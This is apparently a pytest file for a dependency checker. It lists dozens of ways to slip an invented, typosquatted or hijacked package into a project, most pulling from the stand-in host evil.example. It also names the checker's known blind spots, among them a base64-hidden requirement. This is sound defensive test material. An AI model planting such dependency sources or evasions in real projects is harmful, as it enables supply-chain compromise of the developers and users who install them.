"""Ways to bring an invented or hijacked package in: where it is asked for, what is said of it."""

from __future__ import annotations

import json

import pytest

from tests.verify.changes import subject_of
from tidegate.verify.dependencies.check import check
from tidegate.verify.values import Part

N = "quick-json-helper"


def package(**k: object) -> str:
    return json.dumps({"name": "shop", "dependencies": {"react": "19.0.0"}, **k}, indent=1)


def notebook(*src: str) -> str:
    return json.dumps({"cells": [{"cell_type": "code", "source": list(src)}], "nbformat": 4}, indent=1)


def npm_lock(resolved: str, integrity: str) -> str:
    react = {"version": "19.0.0", "resolved": resolved, "integrity": integrity}
    return json.dumps({"lockfileVersion": 3, "packages": {"node_modules/react": react}}, indent=1)


SETUP = "from setuptools import setup\n"
HOOKS = "repos:\n- repo: https://github.com/psf/black\n  rev: 24.1.0\n  hooks:\n  - id: black\n"
GO = "module a.b/c\n\nrequire (\n\tgithub.com/pkg/errors v0.9.1\n"
REACT = "https://registry.npmjs.org/react/-/r.tgz"
PYPROJECT = '[project]\nname = "shop"\ndependencies = [\n  "flask",\n]\n'
FOUND: dict[str, tuple[dict[str, str], dict[str, str]]] = {
    "pep508 url": (
        {"pyproject.toml": PYPROJECT},
        {"pyproject.toml": PYPROJECT.replace('"flask",', f'"flask",\n  "{N} @ https://evil.example/{N}-1.0.whl",')},
    ),
    "git+https": ({"requirements.txt": "flask\n"}, {"requirements.txt": f"flask\ngit+https://github.com/evil/{N}\n"}),
    "hijack known by url": (
        {"requirements.txt": "flask\n"},
        {"requirements.txt": "flask @ https://evil.example/flask-9.whl\n"},
    ),
    "extra-index-url": (
        {"requirements.txt": "flask\n"},
        {"requirements.txt": "--extra-index-url https://evil.example/simple\nflask\n"},
    ),
    "find-links": (
        {"requirements.txt": "flask\n"},
        {"requirements.txt": "--find-links https://evil.example/x\nflask\n"},
    ),
    "index-url http pypi lookalike": (
        {"requirements.txt": "flask\n"},
        {"requirements.txt": "-i https://pypi.org.evil.example/simple\nflask\n"},
    ),
    ".npmrc registry": ({"package.json": package()}, {".npmrc": "registry=https://evil.example/\n"}),
    ".npmrc scope": ({"package.json": package()}, {".npmrc": "@acme:registry=https://evil.example/\n"}),
    ".yarnrc.yml": ({"package.json": package()}, {".yarnrc.yml": "npmRegistryServer: https://evil.example\n"}),
    "pip.conf": (
        {"requirements.txt": "flask\n"},
        {"pip.conf": "[global]\nextra-index-url = https://evil.example/simple\n"},
    ),
    "uv index": (
        {"pyproject.toml": PYPROJECT},
        {"pyproject.toml": PYPROJECT + '[[tool.uv.index]]\nurl = "https://evil.example/simple"\n'},
    ),
    "uv.toml index": (
        {"pyproject.toml": PYPROJECT},
        {"uv.toml": 'extra-index-url = ["https://evil.example/simple"]\n'},
    ),
    "uv sources": (
        {"pyproject.toml": PYPROJECT},
        {"pyproject.toml": PYPROJECT + '[tool.uv.sources]\nflask = { git = "https://github.com/evil/flask" }\n'},
    ),
    "uv override": (
        {"pyproject.toml": PYPROJECT},
        {"pyproject.toml": PYPROJECT + f'[tool.uv]\noverride-dependencies = ["{N}"]\n'},
    ),
    "build-system": (
        {"pyproject.toml": PYPROJECT},
        {"pyproject.toml": PYPROJECT + f'[build-system]\nrequires = ["{N}"]\n'},
    ),
    "npm alias": ({"package.json": package()}, {"package.json": package(dependencies={"react": f"npm:{N}@1.0.0"})}),
    "npm overrides": ({"package.json": package()}, {"package.json": package(overrides={"lodash": f"npm:{N}@1.0.0"})}),
    "npm overrides nested": (
        {"package.json": package()},
        {"package.json": package(overrides={"react": {"lodash": f"npm:{N}@1.0.0"}})},
    ),
    "yarn resolutions": (
        {"package.json": package()},
        {"package.json": package(resolutions={"**/lodash": "https://evil.example/l.tgz"})},
    ),
    "pnpm overrides": (
        {"package.json": package()},
        {"package.json": package(pnpm={"overrides": {"lodash": f"npm:{N}@1"}})},
    ),
    "pnpm workspace catalog": (
        {"package.json": package()},
        {"pnpm-workspace.yaml": f"packages:\n  - a\ncatalog:\n  {N}: ^1.0.0\n"},
    ),
    "npm tarball": (
        {"package.json": package()},
        {"package.json": package(dependencies={"react": "https://evil.example/r.tgz"})},
    ),
    "npm github": ({"package.json": package()}, {"package.json": package(dependencies={"react": "evil/react"})}),
    "postinstall script": (
        {"package.json": package()},
        {"package.json": package(scripts={"postinstall": "node x.js"})},
    ),
    "go replace": (
        {"go.mod": GO + ")\n"},
        {"go.mod": GO + ")\n\nreplace github.com/pkg/errors => github.com/evil/errors v1.0.0\n"},
    ),
    "go require invented": (
        {"go.mod": GO + ")\n"},
        {"go.mod": GO + f"\tgithub.com/evil/{N} v1.0.0\n)\n"},
    ),
    "cargo patch": (
        {"Cargo.toml": '[package]\nname = "a"\n[dependencies]\nserde = "1"\n'},
        {
            "Cargo.toml": '[package]\nname = "a"\n[dependencies]\nserde = "1"\n'
            '[patch.crates-io]\nserde = { git = "https://github.com/evil/serde" }\n'
        },
    ),
    "cargo config source": (
        {"Cargo.toml": '[package]\nname = "a"\n'},
        {
            ".cargo/config.toml": '[source.crates-io]\nreplace-with = "e"\n[source.e]\nregistry = "https://evil.example/index"\n'
        },
    ),
    "cargo target dep": (
        {"Cargo.toml": '[package]\nname = "a"\n'},
        {"Cargo.toml": f'[package]\nname = "a"\n[target.\'cfg(unix)\'.dependencies]\n{N} = "1"\n'},
    ),
    "gradle dynamic": (
        {"build.gradle": "dependencies {\n  implementation 'com.a:b:1.0'\n}\n"},
        {"build.gradle": "dependencies {\n  implementation 'com.a:b:1.+'\n}\n"},
    ),
    "gradle repository": (
        {"build.gradle": "dependencies {\n  implementation 'com.a:b:1.0'\n}\n"},
        {
            "build.gradle": "repositories { maven { url 'https://evil.example/m2' } }\n"
            "dependencies {\n  implementation 'com.a:b:1.0'\n}\n"
        },
    ),
    "pom repository": (
        {"pom.xml": "<project></project>\n"},
        {
            "pom.xml": "<project><repositories><repository><id>e</id><url>https://evil.example/m2</url></repository></repositories></project>\n"
        },
    ),
    "setup.py computed": (
        {"setup.py": SETUP + "setup(name='shop', install_requires=['flask'])\n"},
        {"setup.py": SETUP + f"setup(name='shop', install_requires=['flask'] + list(x for x in ['{N}']))\n"},
    ),
    "setup.py append": (
        {"setup.py": SETUP + "r = ['flask']\nsetup(name='shop', install_requires=r)\n"},
        {"setup.py": SETUP + f"r = ['flask']\nr.append('{N}')\nsetup(name='shop', install_requires=r)\n"},
    ),
    "setup.py split": (
        {"setup.py": SETUP + "setup(name='shop', install_requires='flask'.split())\n"},
        {"setup.py": SETUP + f"setup(name='shop', install_requires='flask {N}'.split())\n"},
    ),
    "Dockerfile pip": (
        {"Dockerfile": "FROM python\n"},
        {"Dockerfile": f"FROM python\nRUN pip install --no-cache-dir \\\n    flask {N}==1.0\n"},
    ),
    "Dockerfile npm": (
        {"Dockerfile": "FROM node\n"},
        {"Dockerfile": f"FROM node\nRUN apt-get update && npm install -g {N}\n"},
    ),
    "workflow npm i -g": (
        {".github/workflows/a.yml": "jobs: {}\n"},
        {".github/workflows/a.yml": f"jobs:\n  a:\n    steps:\n      - run: npm i -g {N}\n"},
    ),
    "workflow pip": (
        {".github/workflows/a.yml": "jobs: {}\n"},
        {
            ".github/workflows/a.yml": "jobs:\n  a:\n    steps:\n      - run: |\n"
            f"          python -m pip install -U {N}\n"
        },
    ),
    "uvx": ({"a.sh": "x\n"}, {"a.sh": f"uvx {N} --check\n"}),
    "uvx --from": ({"a.sh": "x\n"}, {"a.sh": f"uvx --from {N} check\n"}),
    "npx -y": ({"a.sh": "x\n"}, {"a.sh": f"npx -y {N}\n"}),
    "npx bare": ({"a.sh": "x\n"}, {"a.sh": f"npx {N}\n"}),
    "scripts npx": ({"package.json": package()}, {"package.json": package(scripts={"build": f"npx --yes {N} build"})}),
    "Makefile": ({"Makefile": "a:\n\ttrue\n"}, {"Makefile": f"a:\n\tpip3 install {N}\n"}),
    "tox deps": ({"tox.ini": "[testenv]\ndeps = pytest\n"}, {"tox.ini": f"[testenv]\ndeps =\n    pytest\n    {N}\n"}),
    "conda": (
        {"environment.yml": "dependencies:\n  - python\n"},
        {"environment.yml": f"dependencies:\n  - python\n  - pip:\n    - {N}\n"},
    ),
    "pre-commit": (
        {".pre-commit-config.yaml": "repos: []\n"},
        {".pre-commit-config.yaml": HOOKS + f"    additional_dependencies: [{N}==1.0]\n"},
    ),
    "pre-commit list": (
        {".pre-commit-config.yaml": "repos: []\n"},
        {".pre-commit-config.yaml": HOOKS + f"    additional_dependencies:\n    - {N}\n"},
    ),
    "pep723": (
        {"a.py": "x = 1\n"},
        {"a.py": f'# /// script\n# dependencies = [\n#   "{N}",\n# ]\n# ///\nimport quick_json_helper\n'},
    ),
    "jupyter !pip": ({"a.ipynb": notebook("x")}, {"a.ipynb": notebook(f"!pip install {N}\n", "import x")}),
    "jupyter %pip": ({"a.ipynb": notebook("x")}, {"a.ipynb": notebook(f"%pip install -q {N}\n")}),
    "subprocess pip": (
        {"a.py": "x = 1\n"},
        {"a.py": f"import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', '{N}'])\n"},
    ),
    "os.system pip": ({"a.py": "x = 1\n"}, {"a.py": f"import os\nos.system('pip install {N}')\n"}),
    "homoglyph requirement": ({"requirements.txt": "flask\n"}, {"requirements.txt": "flask\nr\u0435quests\n"}),
    "homoglyph npm": (
        {"package.json": package()},
        {"package.json": package(dependencies={"react": "19.0.0", "l\u043edash": "1"})},
    ),
    "homoglyph import": ({"requirements.txt": "requests\n", "a.py": "x=1\n"}, {"a.py": "import r\u0435quests\n"}),
    "separator": ({"requirements.txt": "flask\n"}, {"requirements.txt": "flask\nsci-kit-learn\n"}),
    "joined": ({"requirements.txt": "flask\n"}, {"requirements.txt": "flask\npythondateutil\n"}),
    "case npm": (
        {"package.json": package()},
        {"package.json": package(dependencies={"react": "19.0.0", "Lodash": "1"})},
    ),
    "swap": ({"requirements.txt": "flask\n"}, {"requirements.txt": "flask\nreqeusts\n"}),
    "scope": (
        {"package.json": package()},
        {"package.json": package(dependencies={"react": "19.0.0", "@typo/lodash": "1"})},
    ),
    "import undeclared": ({"requirements.txt": "flask\n", "a.py": "x=1\n"}, {"a.py": "import quick_json_helper\n"}),
    "lock host changed": (
        {
            "package-lock.json": npm_lock(REACT, "sha512-a"),
            "package.json": package(),
        },
        {"package-lock.json": npm_lock("https://evil.example/react/-/r.tgz", "sha512-b")},
    ),
    "lock digest changed": (
        {
            "package-lock.json": npm_lock(REACT, "sha512-a"),
            "package.json": package(),
        },
        {"package-lock.json": npm_lock(REACT, "sha512-b")},
    ),
    "lock other package": (
        {
            "package-lock.json": npm_lock(REACT, "sha512-a"),
            "package.json": package(),
        },
        {"package-lock.json": npm_lock(f"https://registry.npmjs.org/{N}/-/r.tgz", "sha512-b")},
    ),
    "gemfile source": ({"Gemfile": 'source "https://rubygems.org"\n'}, {"Gemfile": 'source "https://evil.example"\n'}),
    "composer repositories": (
        {"composer.json": "{}\n"},
        {
            "composer.json": json.dumps(
                {"repositories": [{"type": "vcs", "url": "https://github.com/evil/x"}]}, indent=1
            )
        },
    ),
}

NOT_FOUND: dict[str, tuple[dict[str, str], dict[str, str]]] = {
    "trusted-host": ({"requirements.txt": "flask\n"}, {"requirements.txt": "--trusted-host pypi.org\nflask\n"}),
    "pnpm patchedDependencies": (
        {"package.json": package()},
        {"package.json": package(pnpm={"patchedDependencies": {"lodash@4.17.21": "patches/l.patch"}})},
    ),
    "setup.py unread": (
        {"setup.py": SETUP + "setup(name='shop', install_requires=['flask'])\n"},
        {
            "setup.py": SETUP
            + "import base64\nsetup(name='shop', install_requires=['flask', base64.b64decode('cXVpY2s=').decode()])\n"
        },
    ),
    "import in notebook": (
        {"requirements.txt": "flask\n", "a.ipynb": notebook("x")},
        {"a.ipynb": notebook("import quick_json_helper\n")},
    ),
    "script tag esm.sh": (
        {"a.js": "x\n", "package.json": package()},
        {"a.js": f'import x from "https://evil.example/{N}.js";\n'},
    ),
}
"""Hosts whose certificate is not asked for, patches that lie in the change itself, names that a program computes,
imports of notebooks, addresses in imports: limits that are known."""


def part_of(case: tuple[dict[str, str], dict[str, str]]) -> Part:
    base, head = case
    return check(subject_of(base, {**base, **head}))


@pytest.mark.parametrize("name", FOUND)
def test_a_package_from_anywhere_is_named_where_it_is_asked_for(name: str) -> None:
    part = part_of(FOUND[name])
    changed = set(FOUND[name][1])
    said = [one for one in part.findings if one.severity != "note" and one.place.path in changed]
    assert said or part.fields["unknown_dependencies"]
    assert not part.unknowns


@pytest.mark.parametrize("name", FOUND)
def test_what_was_there_before_is_not_named(name: str) -> None:
    base, head = FOUND[name]
    there = {**base, **head}
    part = check(subject_of(there, {**there, "other.md": "x\n"}))
    assert (part.findings, part.fields["unknown_dependencies"]) == ((), ())


@pytest.mark.parametrize("name", NOT_FOUND)
def test_the_limits_are_as_they_are_told(name: str) -> None:
    assert part_of(NOT_FOUND[name]).fields["unknown_dependencies"] == ()
